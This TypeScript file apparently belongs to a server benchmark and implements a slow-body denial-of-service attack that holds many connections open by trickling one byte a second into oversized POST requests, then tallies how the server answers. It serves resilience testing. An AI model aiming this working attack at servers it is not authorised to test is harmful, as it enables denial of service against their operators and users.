import { connect, type Socket } from 'node:net';

export interface SlowBodiesReport {
  /** Connections opened in all (the first `count` and their replacements). */
  opened: number;
  /** What the server answered them, by status ('none': it closed the connection without answering). */
  answers: Record<string, number>;
}

/**
 * The slow-body attack of the `under-attack` scenario: `count` connections without a token, each
 * sending POST /api/v1/tasks with Content-Length: 20000 and then one byte of its body a second,
 * each replaced as soon as the server closes it, until `stop()`. Costs the bench process next to
 * nothing (one timer and a byte a second per socket).
 */
export function slowBodies(url: string, count: number): { stop(): SlowBodiesReport } {
  const { hostname, port } = new URL(url);
  const sockets = new Set<Socket>();
  const report: SlowBodiesReport = { opened: 0, answers: {} };
  let running = true;
  const tallied = (answer: string) => (report.answers[answer] = (report.answers[answer] ?? 0) + 1);
  const open = () => {
    if (!running) return;
    report.opened += 1;
    const socket = connect(Number(port), hostname);
    sockets.add(socket);
    let answered = false;
    const trickle = setInterval(() => socket.writable && socket.write(' '), 1000);
    socket.on('connect', () =>
      socket.write(
        `POST /api/v1/tasks HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 20000\r\n\r\n{`,
      ),
    );
    socket.on('data', (chunk: Buffer) => {
      if (answered) return;
      answered = true;
      tallied(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'unparsed');
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(trickle);
      sockets.delete(socket);
      if (!running) return;
      if (!answered) tallied('none');
      setTimeout(open, 10);
    });
  };
  for (let i = 0; i < count; i += 1) open();
  return {
    stop() {
      running = false;
      for (const socket of sockets) socket.destroy();
      return report;
    },
  };
}
